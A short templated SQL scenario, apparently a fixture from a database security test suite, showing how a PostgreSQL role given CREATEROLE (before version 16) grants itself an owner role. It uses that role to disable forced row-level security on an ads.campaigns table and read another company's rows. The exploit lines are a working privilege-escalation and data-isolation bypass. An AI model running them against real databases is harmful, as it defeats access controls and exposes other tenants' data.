-- CREATEROLE, for a self-service sign-up: up to version 15 it grants itself any role that is no superuser.
-- object: role:{adserver}
-- server: <16
-- base: third_ads
--- leak
RESET ROLE;
ALTER ROLE {adserver} CREATEROLE;
--- exploit
GRANT {owner} TO {adserver};
SET LOCAL ROLE {owner};
ALTER TABLE ads.campaigns NO FORCE ROW LEVEL SECURITY;
SELECT name FROM ads.campaigns WHERE company_id = 6;
